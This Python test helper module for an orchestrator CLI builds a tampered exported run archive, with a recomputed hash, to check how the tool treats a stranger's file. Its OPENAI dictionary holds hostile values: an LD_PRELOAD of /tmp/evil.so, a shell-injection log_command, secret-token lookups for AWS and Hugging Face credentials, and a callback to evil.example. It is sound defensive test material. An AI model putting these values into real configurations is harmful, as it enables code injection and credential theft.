"""A database, a folder and the command in this process; and files of strangers for it."""

import hashlib
import json
import sqlite3
import zipfile
from collections.abc import Callable
from contextlib import closing
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner, Result

from orchestrator.cli import cli

PLANNED = [
    "engine=simulated",
    "checkpoint=simulated",
    "engine.effect=1,1.1",
    "workload=quick",
    "design.rounds=6",
    "design.interleave_by=prompt",
]


OPENAI = {
    "_target_": "workers.engines.openai_http.OpenaiHttp",
    "name": "openai_http",
    "python": "/tmp/evil/bin/python",
    "environment": {"LD_PRELOAD": "/tmp/evil.so"},
    "url": "http://203.0.113.9:8080",
    "model": "m",
    "api_key_env": "AWS_SECRET_ACCESS_KEY",
    "log_command": "sh -c 'touch pwned'",
    "body": {"note": "${oc.env:HF_TOKEN}", "callback": "https://evil.example/x"},
    "tokenizer": "someone/tokenizer",
}


class Desk:
    """A database, a folder, and the command in this process."""

    def __init__(self, folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
        self.folder, self.db = folder, folder / "ours.db"
        monkeypatch.setenv("INTERLACE_DB", str(self.db))
        monkeypatch.chdir(folder)

    def __call__(self, *arguments: str, **settings: Any) -> Result:
        return CliRunner().invoke(cli, list(arguments), standalone_mode=False, **settings)

    def sql(self, sql: str, *values: Any) -> list[Any]:
        with closing(sqlite3.connect(self.db)) as connection, connection:
            return connection.execute(sql, values).fetchall()

    def planned(self) -> str:
        """A run of ours that waits."""
        found = self("queue", "add", *PLANNED)
        assert found.exception is None, found.output
        return str(self.sql("SELECT id FROM run ORDER BY created_at DESC LIMIT 1")[0][0])

    def exported(self, run_id: str, name: str = "run.interlace") -> Path:
        assert self("db", "export", run_id, "-o", name, "--force").exception is None
        return self.folder / name

    def forget(self) -> None:
        for path in self.folder.glob("ours.db*"):
            path.unlink()


def changed(file: Path, change: Callable[[sqlite3.Connection], object]) -> Path:
    """A file with another content, honestly summed."""
    with zipfile.ZipFile(file) as archive:
        manifest, content = json.loads(archive.read("manifest.json")), archive.read("run.db")
    scratch = file.with_suffix(".scratch")
    scratch.write_bytes(content)
    with closing(sqlite3.connect(scratch, isolation_level=None)) as connection:
        connection.execute("PRAGMA foreign_keys=OFF")
        change(connection)
    content = scratch.read_bytes()
    manifest |= {"sha256": hashlib.sha256(content).hexdigest(), "size_bytes": len(content)}
    target = file.with_name(f"changed-{file.name}")
    with zipfile.ZipFile(target, "w") as archive:
        archive.writestr("manifest.json", json.dumps(manifest))
        archive.writestr("run.db", content)
    return target


def hostile_plan(text: str) -> str:
    plan = json.loads(text)
    for arm in plan["arms"]:
        arm["engine"] = OPENAI
    return json.dumps(plan, sort_keys=True, separators=(",", ":"))


def make_hostile(connection: sqlite3.Connection, *, hashed: bool, further: str = "") -> None:
    ((plan,),) = connection.execute("SELECT plan FROM run").fetchall()
    text = hostile_plan(plan)
    connection.execute("UPDATE run SET plan = ?, simulated = 1, status = 'interrupted'", (text,))
    if hashed:
        connection.execute("UPDATE run SET plan_sha256 = ?", (hashlib.sha256(text.encode()).hexdigest(),))
    if further:
        connection.execute(further)


def hostile_file(desk: Desk, *, hashed: bool = True, further: str = "") -> tuple[str, Path]:
    """A stranger's run, by a database that is gone then."""
    run_id = desk.planned()
    file = changed(desk.exported(run_id), lambda found: make_hostile(found, hashed=hashed, further=further))
    desk.forget()
    return run_id, file
